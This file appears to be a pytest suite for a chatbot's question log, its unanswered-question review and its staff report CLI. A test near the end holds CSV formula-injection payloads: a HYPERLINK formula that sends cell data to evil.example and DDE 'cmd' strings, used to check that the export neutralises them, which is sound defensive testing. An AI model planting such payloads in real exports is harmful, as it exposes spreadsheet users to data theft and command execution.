"""Tests of the question log (bot.questionlog.store), its review (bot.questionlog.review) and the staff report
(bot.questionlog.report).

Every test that touches a log runs on both backends (`log_backend`: a SQLite file, and a fresh
PostgreSQL database from tests/pgserver.py), with raw access to what is stored for its own
checks. Tests of the SQLite file itself (WAL, a path that cannot be a file, a file that is not a
database) and of PostgreSQL itself (an unreachable server, dropped connections, replicas) are in
their own sections, named for their backend."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg.rows import dict_row

from bot.engine.answer import Answer, Candidate
from bot.questionlog import QuestionLogError, open_log, report, review
from bot.questionlog.backend import pg_placeholders
from bot.questionlog.review import (
    LoggedQuestion,
    UnansweredGroup,
    format_stats,
    format_unanswered,
    group_questions,
    read_stats,
)
from bot.questionlog.store import (
    NONE_OF_THESE,
    PG_MIGRATIONS,
    SCHEMA_VERSION,
    NullQuestionLog,
    QuestionLog,
    hash_asker,
    migrate,
)
from bot.storage.pg import migrate as pg_migrate
from bot.storage.pg import open_pool

DAY = 86400.0
T0 = 1_740_000_000.0  # 2025-02-19T21:20:00Z
ID_RE = re.compile(r"^[A-Za-z0-9_-]{1,16}$")


class Clock:
    """A settable clock for the `clock` parameter."""

    def __init__(self, t: float = T0) -> None:
        self.t = t

    def __call__(self) -> float:
        return self.t


def ans(
    question: str,
    decision: str = "fallback",
    *,
    intent: str | None = None,
    normalized: str | None = None,
    reason: str | None = None,
    score: float = 0.0,
    candidates: tuple[Candidate, ...] = (),
) -> Answer:
    return Answer(
        question=question,
        decision=decision,  # type: ignore[arg-type]
        text="…",
        lang="zh",
        script="simplified",
        intent=intent,
        score=score,
        candidates=candidates,
        normalized=question if normalized is None else normalized,
        reason=reason if reason or decision != "fallback" else "low_score",
    )


class Backend:
    """Where a test's question log lives (`location`: a BOT_DB value), a factory of logs there,
    and raw access to what is stored, outside the code under test. SQL is written with `?`."""

    kind = ""

    def __init__(self, location: str | Path) -> None:
        self.location = location

    def log(self, **kwargs: Any) -> QuestionLog:
        """A new (not started) log here."""
        return QuestionLog(self.location, **kwargs)

    def sql(self, statement: str, params: Sequence[object] = ()) -> list[Any]:
        raise NotImplementedError

    def rows(self) -> list[dict[str, Any]]:
        """Every stored question, oldest first."""
        raise NotImplementedError

    def locked(self) -> Any:
        """A context in which another connection holds the questions exclusively."""
        raise NotImplementedError

    def stored(self) -> bytes:
        """Everything the database holds of the questions, as bytes to search."""
        raise NotImplementedError

    def version(self) -> int:
        raise NotImplementedError

    def pretend_version(self, version: int) -> None:
        """Mark the database as migrated to `version` without creating anything."""
        raise NotImplementedError

    def tables(self) -> set[str]:
        raise NotImplementedError

    def indexes(self) -> set[str]:
        raise NotImplementedError

    def columns(self, table: str) -> list[str]:
        raise NotImplementedError


class SqliteBackend(Backend):
    kind = "sqlite"
    location: Path

    def _connect(self) -> sqlite3.Connection:
        return sqlite3.connect(self.location, isolation_level=None)

    def sql(self, statement: str, params: Sequence[object] = ()) -> list[Any]:
        with closing(self._connect()) as conn:
            return conn.execute(statement, tuple(params)).fetchall()

    def rows(self) -> list[dict[str, Any]]:
        with closing(self._connect()) as conn:
            conn.row_factory = sqlite3.Row
            got = conn.execute("SELECT * FROM questions ORDER BY rowid").fetchall()
        return [dict(r) for r in got]

    @contextmanager
    def locked(self) -> Iterator[None]:
        with closing(self._connect()) as conn:
            conn.execute("BEGIN EXCLUSIVE")
            try:
                yield
            finally:
                conn.execute("COMMIT")

    def stored(self) -> bytes:
        folder, name = self.location.parent, self.location.name
        return b"".join(p.read_bytes() for p in folder.iterdir() if p.name.startswith(name))

    def version(self) -> int:
        return int(self.sql("PRAGMA user_version")[0][0])

    def pretend_version(self, version: int) -> None:
        self.sql(f"PRAGMA user_version = {version:d}")

    def tables(self) -> set[str]:
        got = self.sql("SELECT name FROM sqlite_master WHERE type = 'table'")
        return {name for (name,) in got if not name.startswith("sqlite_")}

    def indexes(self) -> set[str]:
        got = self.sql("SELECT name FROM sqlite_master WHERE type = 'index'")
        return {name for (name,) in got if not name.startswith("sqlite_")}

    def columns(self, table: str) -> list[str]:
        return [r[1] for r in self.sql(f"PRAGMA table_info({table})")]


class PgBackend(Backend):
    kind = "postgresql"
    location: str

    def _connect(self) -> psycopg.Connection[Any]:
        return psycopg.connect(self.location, autocommit=True, connect_timeout=5)

    def sql(self, statement: str, params: Sequence[object] = ()) -> list[Any]:
        with self._connect() as conn:
            cur = conn.execute(pg_placeholders(statement), tuple(params))
            return cur.fetchall() if cur.description else []

    def rows(self) -> list[dict[str, Any]]:
        with self._connect() as conn, conn.cursor(row_factory=dict_row) as cur:
            return cur.execute("SELECT * FROM questions ORDER BY rowid").fetchall()

    @contextmanager
    def locked(self) -> Iterator[None]:
        with self._connect() as conn, conn.transaction():
            conn.execute("LOCK TABLE questions IN ACCESS EXCLUSIVE MODE")
            yield

    def stored(self) -> bytes:
        got = self.sql("SELECT coalesce(string_agg(q::text, ' '), '') FROM questions q")
        return str(got[0][0]).encode()

    def version(self) -> int:
        got = self.sql(
            "SELECT coalesce(max(version), 0) FROM schema_migrations WHERE store = 'questionlog'"
        )
        return int(got[0][0])

    def pretend_version(self, version: int) -> None:
        pool = open_pool(self.location, timeout=5.0)
        try:  # steps without statements: recorded as applied, nothing created
            pg_migrate(pool, "questionlog", [[] for _ in range(version)])
        finally:
            pool.close()

    def tables(self) -> set[str]:
        got = self.sql(
            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"
        )
        return {name for (name,) in got} - {"schema_migrations"}

    def indexes(self) -> set[str]:
        return {
            name
            for (name,) in self.sql("SELECT indexname FROM pg_indexes WHERE schemaname = 'public'")
        }

    def columns(self, table: str) -> list[str]:
        got = self.sql(
            "SELECT column_name FROM information_schema.columns WHERE table_name = ?"
            " ORDER BY ordinal_position",
            (table,),
        )
        return [name for (name,) in got]


@pytest.fixture(params=["sqlite", "postgresql"])
def log_backend(request: pytest.FixtureRequest, tmp_path: Path) -> Backend:
    """The same test on each backend: a SQLite file, a fresh empty PostgreSQL database."""
    if request.param == "sqlite":
        return SqliteBackend(tmp_path / "questions.sqlite3")
    return PgBackend(request.getfixturevalue("pg_url"))


postgresql_only = pytest.mark.parametrize("log_backend", ["postgresql"], indirect=True)


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def qlog(log_backend: Backend, clock: Clock) -> Iterator[QuestionLog]:
    log = log_backend.log(secret="test-secret", clock=clock)
    log.start()
    assert log.recording
    yield log
    log.close()


# -- recording ---------------------------------------------------------------------------------


def test_records_answer_clarify_and_fallback(qlog: QuestionLog, log_backend: Backend) -> None:
    cands = (Candidate("care_places", "托位", 71.5), Candidate("schools", "学位", 66.0))
    ids = [
        qlog.record(
            chat_type="private",
            user_id=1,
            answer=ans("海珠区有多少托位", "answer", intent="care_places", score=93.456),
        ),
        qlog.record(
            chat_type="group",
            user_id=2,
            answer=ans("学位", "clarify", candidates=cands, score=71.5),
        ),
        qlog.record(
            chat_type="private", user_id=None, answer=ans("天河区的公园", reason="other_place")
        ),
    ]
    assert all(ID_RE.match(i) for i in ids)
    assert len(set(ids)) == 3
    qlog.flush()
    got = log_backend.rows()
    assert [r["id"] for r in got] == ids
    a, c, f = got
    assert (a["decision"], a["intent"], a["score"], a["chat_type"]) == (
        "answer",
        "care_places",
        93.46,
        "private",
    )
    assert a["ts"] == "2025-02-19T21:20:00Z"
    assert (a["lang"], a["script"], a["question"]) == ("zh", "simplified", "海珠区有多少托位")
    assert c["decision"] == "clarify" and c["intent"] is None
    assert json.loads(c["candidates"]) == [
        {"intent": "care_places", "title": "托位", "score": 71.5},
        {"intent": "schools", "title": "学位", "score": 66.0},
    ]
    assert (f["decision"], f["reason"], f["asker"]) == ("fallback", "other_place", None)
    assert a["feedback"] is None and a["chosen_intent"] is None


def test_intent_stored_only_for_answers(qlog: QuestionLog, log_backend: Backend) -> None:
    qlog.record(chat_type="private", user_id=1, answer=ans("x", "clarify", intent="stray"))
    qlog.flush()
    assert log_backend.rows()[0]["intent"] is None


def test_record_does_not_wait_for_a_locked_database(
    qlog: QuestionLog, log_backend: Backend
) -> None:
    with log_backend.locked():
        started = time.perf_counter()
        for i in range(50):
            qlog.record(chat_type="private", user_id=i, answer=ans(f"q{i}"))
        assert time.perf_counter() - started < 0.5
    qlog.flush()
    assert len(log_backend.rows()) == 50


# -- identity ----------------------------------------------------------------------------------


def test_asker_is_a_keyed_hash_never_the_raw_id(log_backend: Backend, clock: Clock) -> None:
    uid = 987_654_321_987
    log = log_backend.log(secret="s1", clock=clock)
    log.start()
    log.record(chat_type="private", user_id=uid, answer=ans("a"))
    log.record(chat_type="private", user_id=uid, answer=ans("b"))
    log.record(chat_type="private", user_id=uid + 1, answer=ans("c"))
    log.close()
    other = log_backend.log(secret="s2", clock=clock)
    other.start()
    other.record(chat_type="private", user_id=uid, answer=ans("d"))
    other.close()

    askers = [r["asker"] for r in log_backend.rows()]
    assert askers[0] == askers[1] == hash_asker(b"s1", uid)
    assert re.fullmatch(r"[0-9a-f]{16}", askers[0])
    assert askers[2] != askers[0]  # different user
    assert askers[3] != askers[0]  # same user, different secret
    blob = log_backend.stored()
    assert hash_asker(b"s1", uid).encode() in blob  # the search does see what is stored
    assert str(uid).encode() not in blob
    assert uid.to_bytes(6, "big") not in blob  # not stored as an integer either


def test_missing_secret_warns_and_still_hashes(
    log_backend: Backend, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING, logger="bot.questionlog.store"):
        log = log_backend.log(secret=None, clock=clock)
    assert any("per-process secret" in r.getMessage() for r in caplog.records)
    log.start()
    log.record(chat_type="private", user_id=42, answer=ans("a"))
    log.record(chat_type="private", user_id=42, answer=ans("b"))
    log.close()
    a, b = (r["asker"] for r in log_backend.rows())
    assert a == b and re.fullmatch(r"[0-9a-f]{16}", a)


# -- choice and feedback -------------------------------------------------------------------------


def test_choice_and_feedback_go_to_the_right_record(
    qlog: QuestionLog, log_backend: Backend
) -> None:
    offered = (Candidate("schools", "学校", 60.0), Candidate("care", "托育", 58.0))
    first = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    forged = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    none = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    second = qlog.record(chat_type="private", user_id=1, answer=ans("托位", "answer", intent="c"))
    third = qlog.record(chat_type="private", user_id=2, answer=ans("公园", "answer", intent="p"))
    qlog.record_choice(first, "schools")
    qlog.record_choice(forged, "parks")  # never offered: a forged button records nothing
    qlog.record_choice(none, NONE_OF_THESE)
    qlog.record_feedback(second, True, user_id=1)
    qlog.record_feedback(third, True, user_id=2)
    qlog.record_feedback(third, False, user_id=2)  # last click wins
    qlog.record_feedback(third, True, user_id=1)  # not the asker's: ignored
    qlog.record_feedback("no-such-id", True, user_id=1)  # harmless
    qlog.flush()
    by_id = {r["id"]: r for r in log_backend.rows()}
    assert len(by_id) == 5
    assert by_id[forged]["chosen_intent"] is None
    assert by_id[none]["chosen_intent"] == NONE_OF_THESE
    assert by_id[first]["chosen_intent"] == "schools" and by_id[first]["feedback"] is None
    assert by_id[second]["feedback"] == 1 and by_id[second]["chosen_intent"] is None
    assert by_id[third]["feedback"] == 0


# -- unanswered ----------------------------------------------------------------------------------


def fill_unanswered(log: QuestionLog, clock: Clock) -> None:
    clock.t = T0 - 10 * DAY  # outside a 7-day window
    log.record(chat_type="private", user_id=9, answer=ans("我的社保怎么查", reason="personal"))
    clock.t = T0 - 2 * DAY
    for q in ("海珠区有多少个公园", "海珠区有多少个公园", "海珠区有多少公园"):
        log.record(chat_type="private", user_id=1, answer=ans(q))
    clock.t = T0 - DAY
    log.record(chat_type="group", user_id=2, answer=ans("海珠区一共有多少个公园", "clarify"))
    metro = "地铁11号线什么时候开通"
    log.record(chat_type="private", user_id=3, answer=ans(metro, normalized=metro))
    clock.t = T0
    log.record(
        chat_type="private", user_id=4, answer=ans("地铁十一号线什么时候开通", normalized=metro)
    )
    # answered questions never show up, even with the same text
    log.record(
        chat_type="private", user_id=5, answer=ans("海珠区有多少个公园", "answer", intent="p")
    )
    log.flush()


def test_unanswered_groups_similar_questions(qlog: QuestionLog, clock: Clock) -> None:
    fill_unanswered(qlog, clock)
    groups = review.unanswered_in(qlog, days=7)
    assert [g.count for g in groups] == [4, 2]
    parks, metro = groups
    assert parks.question == "海珠区有多少个公园"  # the most frequent wording
    assert set(parks.variants) == {"海珠区有多少公园", "海珠区一共有多少个公园"}
    assert parks.decisions == {"fallback": 3, "clarify": 1}
    assert parks.reasons == {"low_score": 3}
    assert parks.last_seen == "2025-02-18T21:20:00Z"
    assert metro.question == "地铁十一号线什么时候开通"  # tie: most recent wording first
    assert metro.variants == ("地铁11号线什么时候开通",)
    assert metro.last_seen == "2025-02-19T21:20:00Z"
    assert all("社保" not in g.question for g in groups)


def test_unanswered_days_window_and_limit(qlog: QuestionLog, clock: Clock) -> None:
    fill_unanswered(qlog, clock)
    assert [g.count for g in review.unanswered_in(qlog, days=30)] == [4, 2, 1]
    assert review.unanswered_in(qlog, days=30)[2].reasons == {"personal": 1}
    assert [g.count for g in review.unanswered_in(qlog, days=30, limit=1)] == [4]
    assert [g.count for g in review.unanswered_in(qlog, days=0.5)] == [
        1
    ]  # only the latest metro question


def test_unanswered_shows_clarify_choices(qlog: QuestionLog) -> None:
    offered = (Candidate("schools", "学校", 60.0),)
    rid = qlog.record(
        chat_type="private", user_id=1, answer=ans("学位", "clarify", candidates=offered)
    )
    qlog.record_choice(rid, "schools")
    qlog.flush()
    (group,) = review.unanswered_in(qlog)
    assert group.chosen == {"schools": 1}
    assert "picked: schools 1" in format_unanswered([group], 7)


# -- stats ---------------------------------------------------------------------------------------


def test_stats_figures(qlog: QuestionLog, clock: Clock) -> None:
    clock.t = T0 - DAY
    a1 = qlog.record(chat_type="private", user_id=1, answer=ans("a", "answer", intent="schools"))
    a2 = qlog.record(chat_type="private", user_id=1, answer=ans("b", "answer", intent="schools"))
    clock.t = T0
    a3 = qlog.record(chat_type="group", user_id=2, answer=ans("c", "answer", intent="parks"))
    for q in ("d", "e"):
        qlog.record(chat_type="private", user_id=3, answer=ans(q, "clarify"))
    for q, why in (("f", "low_score"), ("g", "low_score"), ("h", "other_place")):
        qlog.record(chat_type="group", user_id=4, answer=ans(q, reason=why))
    clock.t = T0 - 30 * DAY
    qlog.record(chat_type="private", user_id=5, answer=ans("old", "answer", intent="old"))
    clock.t = T0
    qlog.record_feedback(a1, True, user_id=1)
    qlog.record_feedback(a2, True, user_id=1)
    qlog.record_feedback(a3, False, user_id=2)
    qlog.flush()

    s = review.stats_of(qlog, days=7)
    assert s.total == 8
    assert (s.overall.answer, s.overall.clarify, s.overall.fallback) == (3, 2, 3)
    assert s.answer_rate == pytest.approx(3 / 8)
    assert s.fallback_rate == pytest.approx(3 / 8)
    assert (s.overall.helpful, s.overall.unhelpful) == (2, 1)
    assert s.unhelpful_rate == pytest.approx(1 / 3)
    assert s.top_intents == [("schools", 2), ("parks", 1)]  # by count, not name
    assert s.reasons == {"low_score": 2, "other_place": 1}
    assert s.per_day["2025-02-18"] == 2 and s.per_day["2025-02-19"] == 6
    assert len(s.per_day) == 8 and sum(s.per_day.values()) == 8
    private, group = s.by_chat_type["private"], s.by_chat_type["group"]
    assert (private.total, private.answer, private.clarify, private.helpful) == (4, 2, 2, 2)
    assert (group.total, group.fallback, group.unhelpful) == (4, 3, 1)
    assert review.stats_of(qlog, days=60).total == 9

    text = format_stats(s, 7)
    assert "Questions, last 7 days (UTC days): 8" in text
    assert "answer 3 (37.5%)" in text and "👎 rate 33.3%" in text


def test_stats_and_unanswered_without_a_database(log_backend: Backend) -> None:
    s = read_stats(log_backend.location, days=7, now=T0)  # no file; an empty database
    assert s.total == 0 and s.answer_rate is None and s.unhelpful_rate is None
    assert review.read_questions(log_backend.location, now=T0) == []
    assert review.read_question(log_backend.location, "no-such-id") is None
    assert log_backend.tables() == set()  # reading created nothing
    assert "Questions, last 7 days (UTC days): 0" in format_stats(s, 7)
    assert format_unanswered([], 7) == "No unanswered questions in the last 7 days."


# -- retention -----------------------------------------------------------------------------------


def test_purge_removes_rows_past_retention(
    qlog: QuestionLog, log_backend: Backend, clock: Clock
) -> None:
    qlog.record(chat_type="private", user_id=1, answer=ans("old"))
    clock.t = T0 + 89 * DAY
    qlog.record(chat_type="private", user_id=1, answer=ans("recent"))
    qlog.flush()
    assert qlog.purge() == 0
    clock.t = T0 + 91 * DAY
    assert qlog.purge() == 1
    assert [r["question"] for r in log_backend.rows()] == ["recent"]


def test_writer_purges_daily_and_start_purges(log_backend: Backend, clock: Clock) -> None:
    log = log_backend.log(secret="s", retention_days=10, clock=clock)
    log.start()
    log.record(chat_type="private", user_id=1, answer=ans("day 0"))
    clock.t = T0 + 5 * DAY
    log.record(chat_type="private", user_id=1, answer=ans("day 5"))
    log.flush()
    assert len(log_backend.rows()) == 2
    clock.t = T0 + 11 * DAY  # a day has passed since the last purge: the writer purges
    log.record(chat_type="private", user_id=1, answer=ans("day 11"))
    log.flush()
    log.flush()  # the purge runs after the batch that carried the flush marker
    assert [r["question"] for r in log_backend.rows()] == ["day 5", "day 11"]
    log.close()

    clock.t = T0 + 16 * DAY
    again = log_backend.log(secret="s", retention_days=10, clock=clock)
    again.start()  # purges at start
    again.close()
    assert [r["question"] for r in log_backend.rows()] == ["day 11"]


# -- failures ------------------------------------------------------------------------------------


def test_sqlite_unwritable_path_degrades_without_raising(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """SQLite only: a path whose folder is a file."""
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    log = QuestionLog(blocker / "questions.sqlite3", secret="s")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        log.start()
    assert any(r.levelno == logging.ERROR for r in caplog.records)
    rid = log.record(chat_type="private", user_id=1, answer=ans("q"))
    assert ID_RE.match(rid)
    log.record_choice(rid, "x")
    log.record_feedback(rid, True, user_id=1)
    started = time.perf_counter()
    log.flush(timeout=2)
    assert time.perf_counter() - started < 1
    assert review.unanswered_in(log) == [] and review.stats_of(log).total == 0 and log.purge() == 0
    log.close()


def test_write_failure_is_logged_and_writer_survives(
    qlog: QuestionLog, log_backend: Backend, caplog: pytest.LogCaptureFixture
) -> None:
    log_backend.sql("ALTER TABLE questions RENAME TO questions_away")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        rid = qlog.record(chat_type="private", user_id=1, answer=ans("lost"))
        qlog.flush()
    assert ID_RE.match(rid)
    assert any("write failed" in r.getMessage() for r in caplog.records)
    log_backend.sql("ALTER TABLE questions_away RENAME TO questions")
    qlog.record(chat_type="private", user_id=1, answer=ans("kept"))
    qlog.flush()
    assert [r["question"] for r in log_backend.rows()] == ["kept"]


def test_newer_schema_is_left_alone(log_backend: Backend, caplog: pytest.LogCaptureFixture) -> None:
    log_backend.pretend_version(SCHEMA_VERSION + 1)
    log = log_backend.log(secret="s")
    with caplog.at_level(logging.ERROR, logger="bot.questionlog.store"):
        log.start()
    assert any("newer" in r.getMessage() for r in caplog.records)
    assert not log.recording
    log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.close()
    assert log_backend.tables() == set()
    assert log_backend.version() == SCHEMA_VERSION + 1


# -- concurrency and migration -------------------------------------------------------------------


def test_concurrent_recording_from_many_threads(qlog: QuestionLog, log_backend: Backend) -> None:
    ids: list[str] = []
    lock = threading.Lock()
    barrier = threading.Barrier(16)

    def worker(n: int) -> None:
        barrier.wait()
        for i in range(50):
            rid = qlog.record(chat_type="group", user_id=n, answer=ans(f"q{n}-{i}"))
            qlog.record_feedback(rid, i % 2 == 0, user_id=n)
            with lock:
                ids.append(rid)

    threads = [threading.Thread(target=worker, args=(n,)) for n in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    qlog.flush()
    got = log_backend.rows()
    assert len(got) == 800 == len(set(ids))
    assert {r["id"] for r in got} == set(ids)
    assert sum(r["feedback"] for r in got) == 400


async def test_concurrent_recording_from_asyncio_tasks(
    qlog: QuestionLog, log_backend: Backend
) -> None:
    import asyncio

    async def handler(i: int) -> str:
        await asyncio.sleep(0)
        return qlog.record(chat_type="private", user_id=i, answer=ans(f"q{i}"))

    ids = await asyncio.gather(*(handler(i) for i in range(200)))
    qlog.flush()
    assert {r["id"] for r in log_backend.rows()} == set(ids)


def test_migration_is_idempotent(log_backend: Backend, clock: Clock) -> None:
    log = log_backend.log(secret="s", clock=clock)
    log.start()
    log.start()  # a second start on the same object is a no-op
    log.record(chat_type="private", user_id=1, answer=ans("kept"))
    log.close()
    again = log_backend.log(secret="s", clock=clock)
    again.start()
    assert again.recording
    again.record(chat_type="private", user_id=1, answer=ans("also"))
    again.close()
    assert log_backend.version() == SCHEMA_VERSION
    assert log_backend.tables() == {"questions", "staff_changes", "staff_digests"}
    assert {"questions_ts", "questions_decision", "staff_changes_state"} <= log_backend.indexes()
    assert [r["question"] for r in log_backend.rows()] == ["kept", "also"]


def test_null_question_log_does_nothing(tmp_path: Path) -> None:
    log = NullQuestionLog()
    log.start()
    rid = log.record(chat_type="private", user_id=1, answer=ans("q"))
    log.record_choice(rid, "x")
    log.record_feedback(rid, False, user_id=1)
    log.flush()
    assert ID_RE.match(rid)
    assert review.unanswered_in(log) == [] and review.stats_of(log).total == 0 and log.purge() == 0
    log.close()
    assert list(tmp_path.iterdir()) == []


# -- formatting ----------------------------------------------------------------------------------


def utf16(text: str) -> int:
    return len(text.encode("utf-16-le")) // 2


def make_group(i: int, text: str) -> UnansweredGroup:
    return UnansweredGroup(
        question=text,
        normalized=text,
        count=300 - i,
        decisions={"fallback": 300 - i},
        reasons={"low_score": 300 - i},
        chosen={},
        variants=(text + "?", text + "吗"),
        last_seen="2025-02-19T21:20:00Z",
    )


def test_format_unanswered_fits_telegram() -> None:
    groups = [make_group(i, f"问题{i} " + "海珠区的公园" * 60) for i in range(300)]
    text = format_unanswered(groups, 7)
    assert utf16(text) <= 4000
    shown = len(re.findall(r"^\d+\. ", text, flags=re.M))
    assert 0 < shown < 300
    assert text.endswith(f"… and {300 - shown} more")
    assert "<" not in text and "*" not in text  # plain text, no markup
    assert len(format_unanswered(groups, 7, max_chars=None)) > 4000


def test_format_unanswered_small_list_is_complete() -> None:
    text = format_unanswered([make_group(0, "海珠区有多少个公园")], 7)
    assert text.startswith("Unanswered questions, last 7 days")
    assert "1. 海珠区有多少个公园 ×300" in text and "more" not in text


def test_format_stats_fits_telegram(qlog: QuestionLog) -> None:
    for i in range(300):
        qlog.record(chat_type=f"chat-type-{i}-" + "x" * 40, user_id=i, answer=ans(f"q{i}"))
    qlog.flush()
    text = format_stats(review.stats_of(qlog, days=90), 90)
    assert utf16(text) <= 4000
    assert re.search(r"… and \d+ more$", text)


# -- report CLI ----------------------------------------------------------------------------------


@pytest.fixture
def report_db(log_backend: Backend) -> str:
    """A log with a few questions, closed: its --db value."""
    now = time.time()
    clock = Clock(now - 10 * DAY)
    log = log_backend.log(secret="s", clock=clock)
    log.start()
    log.record(chat_type="private", user_id=1, answer=ans("旧问题"))
    clock.t = now - 60
    log.record(chat_type="private", user_id=1, answer=ans("海珠区有多少个公园"))
    log.record(chat_type="group", user_id=2, answer=ans("海珠区有多少公园", "clarify"))
    rid = log.record(chat_type="private", user_id=3, answer=ans("托位", "answer", intent="care"))
    log.record_feedback(rid, True, user_id=3)
    log.record(chat_type="private", user_id=4, answer=ans("天河区", reason="other_place"))
    log.close()
    return str(log_backend.location)


def test_report_json(report_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db), "--format", "json", "--since", "7d"]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["stats"]["total"] == 4 and doc["stats"]["helpful"] == 1
    assert doc["stats"]["top_intents"] == [{"intent": "care", "count": 1}]
    assert [g["count"] for g in doc["groups"]] == [2, 1]
    assert {q["question"] for q in doc["questions"]} == {
        "海珠区有多少个公园",
        "海珠区有多少公园",
        "天河区",
    }
    park = next(q for q in doc["questions"] if q["decision"] == "clarify")
    assert (park["group"], park["group_size"]) == (1, 2)
    assert "asker" not in json.dumps(doc)


def test_report_csv_and_since(report_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db), "--format", "csv", "--since", "30d"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(table) == 4  # the 10-day-old question is inside 30 days
    assert set(table[0]) == set(report.CSV_FIELDS)
    groups = {r["question"]: (r["group"], r["group_size"]) for r in table}
    assert groups["海珠区有多少个公园"] == groups["海珠区有多少公园"] == ("1", "2")
    assert groups["天河区"][1] == groups["旧问题"][1] == "1"
    other = next(r for r in table if r["question"] == "天河区")
    assert (other["decision"], other["reason"], other["normalized"]) == (
        "fallback",
        "other_place",
        "天河区",
    )
    assert report.main(["--db", str(report_db), "--format", "csv", "--since", "24h"]) == 0
    assert len(list(csv.DictReader(io.StringIO(capsys.readouterr().out)))) == 3


def test_report_text(report_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert report.main(["--db", str(report_db)]) == 0
    out = capsys.readouterr().out
    assert "Questions, last 7 days (UTC days): 4" in out
    assert "1. 海珠区有多少个公园 ×2" in out
    assert "All unanswered questions (3)" in out
    assert "fallback/other_place" in out and "旧问题" not in out


def test_report_errors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """SQLite paths: a missing file, from --db and from BOT_DB."""
    assert report.main(["--db", str(tmp_path / "missing.sqlite3")]) == 1
    assert "no question log" in capsys.readouterr().err
    assert report.main(["--since", "seven days"]) == 2
    monkeypatch.setenv("BOT_DB", str(tmp_path / "from-env.sqlite3"))
    assert report.main([]) == 1
    assert "from-env.sqlite3" in capsys.readouterr().err


@pytest.mark.parametrize(("text", "days"), [("7d", 7.0), ("24h", 1.0), ("30d", 30.0), ("2w", 14.0)])
def test_parse_since(text: str, days: float) -> None:
    assert report.parse_since(text) == pytest.approx(days)


def test_logged_question_has_no_asker_field() -> None:
    assert "asker" not in LoggedQuestion.__dataclass_fields__


# -- bounded grouping, CSV safety, --db off ------------------------------------------------------


def logged(i: int, text: str, *, ts: str = "2025-02-19T21:20:00Z") -> LoggedQuestion:
    return LoggedQuestion(
        id=f"id{i}",
        ts=ts,
        chat_type="private",
        question=text,
        normalized=text,
        decision="fallback",
        intent=None,
        score=0.0,
        reason="low_score",
        candidates=(),
        chosen_intent=None,
        feedback=None,
    )


def distinct_questions(n: int) -> list[str]:
    """n different questions, all starting alike (the worst case for a first-character bucket)."""
    import random

    rng = random.Random(7)
    words = ["公园", "学位", "托位", "地铁", "医院", "社保", "图书馆", "停车", "垃圾", "旧改"]
    words += ["绿道", "体育馆", "就业", "补贴", "养老"]
    out = []
    for i in range(n):
        picked = "".join(rng.sample(words, 3))
        out.append(f"海珠区{picked}怎么样{i}")
    return out


def test_ten_thousand_distinct_questions_group_in_well_under_a_second() -> None:
    """Before: every wording was compared with every group (quadratic): 10,000 took ~12 s."""
    texts = distinct_questions(10_000)
    rows = [logged(i, t) for i, t in enumerate(texts)]
    # a few near-duplicates of one question, recent and frequent: they must still be grouped
    rows += [logged(20_000 + i, "海珠区有多少个公园") for i in range(3)]
    rows += [logged(30_000 + i, "海珠区有多少公园") for i in range(2)]
    started = time.perf_counter()
    groups = group_questions(rows)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"grouping 10,000 questions took {elapsed:.2f} s"
    assert groups[0].count == 5 and groups[0].question == "海珠区有多少个公园"
    assert sum(g.count for g in groups) == len(rows)  # every row is in exactly one group
    assert len({i for g in groups for i in g.ids}) == len(rows)
    started = time.perf_counter()
    assert group_questions(rows, limit=20) == groups[:20]  # what /unanswered asks for
    assert time.perf_counter() - started < 1.0


def test_grouping_beyond_the_bound_keeps_identical_wordings_together() -> None:
    from bot.questionlog import review as logreview

    texts = distinct_questions(logreview.MAX_CLUSTER_KEYS + 50)
    rows = [logged(i, t) for i, t in enumerate(texts)]
    old = "海珠区很久以前问过的问题"
    rows += [logged(90_000, old, ts="2025-01-01T00:00:00Z")]
    rows += [logged(90_001, old, ts="2025-01-01T00:00:00Z")]
    groups = group_questions(rows)
    [twice] = [g for g in groups if g.question == old]
    assert twice.count == 2


@pytest.fixture
def hostile_db(log_backend: Backend) -> str:
    log = log_backend.log(secret="s", clock=Clock(time.time() - 60))
    log.start()
    for text in HOSTILE_CELLS:
        log.record(chat_type="private", user_id=1, answer=ans(text, normalized=text))
    log.record(chat_type="private", user_id=1, answer=ans("海珠区有多少公园"))
    log.close()
    return str(log_backend.location)


HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_report_csv_neutralises_formulas(
    hostile_db: str, log_backend: Backend, capsys: pytest.CaptureFixture[str]
) -> None:
    assert report.main(["--db", str(hostile_db), "--format", "csv"]) == 0
    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = {r["question"] for r in table}
    assert cells == {"'" + text for text in HOSTILE_CELLS} | {"海珠区有多少公园"}
    for row in table:
        for key, value in row.items():
            if key != "id":
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    # our own record ids go out as they are, "-" first or not: they join back to the log
